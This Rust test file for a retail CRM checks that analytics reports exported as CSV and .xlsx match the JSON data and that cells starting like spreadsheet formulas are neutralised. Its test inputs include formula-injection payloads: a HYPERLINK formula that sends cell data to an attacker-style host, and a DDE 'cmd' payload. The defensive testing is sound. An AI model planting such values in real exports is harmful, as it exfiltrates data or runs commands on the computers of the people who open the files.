//! Reports as files (SPEC §13): every list report answers CSV and an .xlsx with the JSON rows'
//! columns and numbers, and (issue 22) no CSV cell is one a spreadsheet would run as a formula.

use serde_json::{json, Value};

use super::{basket, follow, person};
use crate::orders::at;
use crate::support::{spreadsheet_would_run, TestApp};

/// Each list report that answers files, with the JSON list its rows mirror.
const REPORTS: [(&str, &str); 9] = [
    ("/v1/analytics/sales?from=2026-06-01&to=2026-11-22&group_by=category", "rows"),
    ("/v1/analytics/sales?from=2026-06-01&to=2026-11-22&group_by=store", "rows"),
    ("/v1/analytics/sales?from=2026-06-01&to=2026-11-22&group_by=channel", "rows"),
    ("/v1/analytics/lifecycle", "stages"),
    ("/v1/analytics/repurchase-interval", "rows"),
    ("/v1/analytics/members", "growth"),
    ("/v1/analytics/forecast?category=x&months=2", "months"),
    ("/v1/analytics/churn-risk", "items"),
    ("/v1/analytics/rfm", "cells"),
];

/// A JSON value as a cell's text.
fn text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Array(a) => a.iter().map(|v| v.as_str().unwrap_or_default()).collect::<Vec<_>>().join(";"),
        other => other.to_string(),
    }
}

/// What the CSV says for a JSON value: its text, with a `'` before one a spreadsheet would run.
fn csv_text(value: &Value) -> String {
    let text = text(value);
    if spreadsheet_would_run(&text) {
        format!("'{text}")
    } else {
        text
    }
}

/// Fetches `path` as JSON, CSV and .xlsx and compares every cell with the JSON: the CSV as
/// `csv_text` says, the workbook as the JSON says (its text cells are strings, never formulas).
/// Returns the CSV's rows.
async fn assert_files_say_what_the_json_says(app: &TestApp, path: &str, list: &str) -> Vec<Vec<String>> {
    use calamine::Reader;
    let reader = app.token(&["analytics:read"]);
    let json = app.get(path).token(&reader).send().await;
    json.assert_status(200);
    let items = json.body[list].as_array().unwrap_or_else(|| panic!("{path}: {}", json.text)).clone();
    let csv = app.get(path).token(&reader).header("accept", "text/csv").send().await;
    csv.assert_status(200);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"), "{path}");
    assert!(csv.bytes.starts_with("\u{feff}".as_bytes()), "{path}: no BOM");
    let mut rows = ::csv::Reader::from_reader(&csv.bytes[3..]);
    let header: Vec<String> =
        rows.headers().unwrap_or_else(|e| panic!("{path}: {e}")).iter().map(str::to_string).collect();
    let records: Vec<Vec<String>> = rows
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("{path}: {e}")).iter().map(str::to_string).collect())
        .collect();
    assert_eq!(records.len(), items.len(), "{path}");
    let xlsx = app.get(path).token(&reader).header("accept", retail_crm::analytics::export::XLSX).send().await;
    xlsx.assert_status(200);
    let mut book =
        calamine::Xlsx::new(std::io::Cursor::new(xlsx.bytes.clone())).unwrap_or_else(|e| panic!("{path}: {e}"));
    let sheet = book
        .worksheet_range_at(0)
        .unwrap_or_else(|| panic!("{path}: no sheet"))
        .unwrap_or_else(|e| panic!("{path}: {e}"));
    let cells: Vec<Vec<String>> = sheet.rows().map(|row| row.iter().map(|c| c.to_string()).collect()).collect();
    assert_eq!(cells.first(), Some(&header), "{path}: the workbook's header");
    let mut keys: Vec<&String> =
        items.first().and_then(Value::as_object).map(|o| o.keys().collect()).unwrap_or_default();
    keys.sort();
    let mut columns: Vec<&String> = header.iter().collect();
    columns.sort();
    assert!(items.is_empty() || keys == columns, "{path}: the columns are the JSON item's fields");
    for (i, item) in items.iter().enumerate() {
        for (col, name) in header.iter().enumerate() {
            let cell = &records[i][col];
            assert!(!spreadsheet_would_run(cell), "{path} row {i} column {name}: a spreadsheet would run {cell:?}");
            assert_eq!(*cell, csv_text(&item[name]), "{path} row {i} column {name}");
            let expected = text(&item[name]);
            let in_book = &cells[i + 1].get(col).cloned().unwrap_or_default();
            let same = match (expected.parse::<f64>(), in_book.parse::<f64>()) {
                (Ok(a), Ok(b)) => (a - b).abs() < 1e-9,
                _ => *in_book == expected,
            };
            assert!(same, "{path} row {i} column {name}: workbook {in_book:?}, JSON {expected:?}");
        }
    }
    records
}

/// Every list report answers CSV (UTF-8 with a BOM) and an .xlsx with the JSON rows' columns and
/// the same numbers.
#[actix_rt::test]
async fn list_reports_open_as_csv_and_xlsx_with_the_same_numbers() {
    let app = TestApp::new().await;
    app.state.clock.set(at("2026-11-22T10:00:00+08:00"));
    let shoppers = [person(&app, "甲", "13500000001").await, person(&app, "乙", "13500000002").await];
    for (i, days) in [5, 4, 3, 2].into_iter().enumerate() {
        basket(&app, &format!("E{i}"), Some(shoppers[i % 2]), days, &[("童装", "K-1"), ("玩具", "T-1")]).await;
    }
    follow(&app);
    app.post("/v1/jobs/rfm/run").token(&app.admin_token()).send().await.assert_status(200);
    for (path, list) in REPORTS {
        let rows = assert_files_say_what_the_json_says(&app, path, list).await;
        let may_be_empty = path.contains("churn-risk") || path.contains("members");
        assert!(may_be_empty || !rows.is_empty(), "{path}: nothing to compare");
    }
}

/// Text that starts like a formula, one of each: `=`, `+`, `-`, `@`, a tab, a carriage return.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?\"&A2,\"详情\")",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1+2",
    "\r=cmd|'/c calc'!A0",
];

/// Issue 22, finding 4: customers named like formulas who stopped buying (churn risk) bought
/// categories named like formulas twice (sales by category, the repurchase interval), one of them
/// at a store named like one (sales by store): every report's CSV quotes each such cell, the
/// workbook keeps it as text, and the JSON is untouched.
#[actix_rt::test]
async fn report_cells_a_spreadsheet_would_run_are_neutralised_in_every_csv() {
    let app = TestApp::new().await;
    app.state.clock.set(at("2026-11-22T10:00:00+08:00"));
    let store = app
        .post("/v1/stores")
        .token(&app.admin_token())
        .json(&json!({"code": "EV1", "name": FORMULAS[3], "city": "北京", "district": "朝阳区"}))
        .send()
        .await;
    store.assert_status(201);
    for (i, formula) in FORMULAS.into_iter().enumerate() {
        let buyer = person(&app, formula, &format!("1350000{i:04}")).await;
        basket(&app, &format!("F{i}a"), Some(buyer), 150, &[(formula, "K-1")]).await;
        basket(&app, &format!("F{i}b"), Some(buyer), 120, &[(formula, "K-1")]).await;
    }
    let at_store = json!({"external_id": "S1", "channel": "pos", "store_id": store.uuid("id"),
        "occurred_at": app.now() - chrono::Duration::days(3),
        "lines": [{"sku": "K-1", "category": FORMULAS[0], "quantity": 1, "unit_price": "100.00"}]});
    app.post("/v1/orders").token(&app.token(super::TILL)).json(&at_store).send().await.assert_status(201);
    follow(&app);
    app.post("/v1/jobs/rfm/run").token(&app.admin_token()).send().await.assert_status(200);

    let mut quoted = Vec::new();
    for (path, list) in REPORTS {
        let rows = assert_files_say_what_the_json_says(&app, path, list).await;
        quoted.extend(rows.into_iter().flatten().filter(|c| c.starts_with('\'')).map(|c| (path, c)));
    }
    // Names are trimmed when stored, so a leading tab or carriage return never reaches a name.
    let names = FORMULAS.map(|f| ("/v1/analytics/churn-risk", f.trim_start().to_string()));
    let categories =
        FORMULAS.map(|f| ("/v1/analytics/sales?from=2026-06-01&to=2026-11-22&group_by=category", f.to_string()));
    let repurchased = FORMULAS.map(|f| ("/v1/analytics/repurchase-interval", f.to_string()));
    let store_name = [("/v1/analytics/sales?from=2026-06-01&to=2026-11-22&group_by=store", FORMULAS[3].to_string())];
    for (path, formula) in names.into_iter().chain(categories).chain(repurchased).chain(store_name) {
        assert!(
            quoted.contains(&(path, format!("'{formula}"))),
            "{path}: {formula:?} arrives quoted; quoted cells: {quoted:?}"
        );
    }
}
